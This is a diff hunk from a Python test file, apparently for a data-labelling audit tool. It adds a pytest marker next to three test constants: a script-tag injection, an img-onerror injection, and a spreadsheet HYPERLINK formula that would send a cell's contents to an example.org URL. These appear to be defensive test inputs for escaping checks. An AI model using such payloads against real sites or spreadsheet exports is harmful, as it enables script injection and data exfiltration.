@@ -25,6 +25,8 @@ from labelaudit.storage import layout, tables
 from labelaudit.storage.opening import open_store
 from labelaudit.storage.store import Store
 
+pytestmark = pytest.mark.runs
+
 HOSTILE = "<script>document.title='owned'</script>"
 IMAGE = '"><img src=x onerror="document.title=1">'
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
